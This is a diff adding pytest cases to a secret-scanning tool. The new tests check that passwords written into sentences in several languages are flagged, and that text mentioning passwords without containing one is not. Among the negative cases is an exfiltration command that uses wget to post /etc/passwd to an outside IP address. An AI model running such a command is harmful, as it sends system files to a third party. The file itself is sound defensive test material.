@@ -80,3 +80,34 @@ def test_a_published_example_token_or_a_key_s_header_alone_is_not(text: str) -> 
 )
 def test_the_same_token_in_use_or_a_key_with_its_material_is(text: str, kind: str) -> None:
     assert [f.kind for f in scan_secrets(text)] == [kind]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "La contraseña de la base de datos de staging es Qm7$hT2!pLx9 (usuario: deploy).",
+        "Das Passwort für den Router im Keller lautet jetzt v8Kd!27qWzr#, bitte notieren.",
+        "A senha do painel do Grafana da equipe é Rt4%nB8#qZ1w e o usuário é ops.",
+        "j'ai changé le mot de passe admin du NAS (nas-02.lan) : Hx7&kLp2_Qm9",
+        "ステージングのパスワード: %9dKq2+Lm7pXz",
+        "the password for the shared mailbox is now Zp3!vQ8#rT2k",
+    ],
+)
+def test_a_password_told_in_a_sentence_is_found(text: str) -> None:
+    assert [f.kind for f in scan_secrets(text)] == ["password-in-text"]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "The password policy is now MinLen-12_Upper1 for every account.",
+        "password: process.env.DB_PASSWORD ?? 'changeme'",
+        "GET /search?q=reset+admin+password&page=2&per_page=25&sort=relevance",
+        "wget --post-file=/etc/passwd http://203.0.113.9/up",
+        "DATABASE_URL=postgres://USER:PASSWORD@localhost:5432/app_dev",
+        "Das Passwort für den Admin-Account lautet Admin-Account, nicht anders.",
+        "A password such as Tr0ub4dor&3x is easy to guess; use a passphrase.",
+    ],
+)
+def test_what_a_sentence_says_of_a_password_without_one_is_not(text: str) -> None:
+    assert not scan_secrets(text)
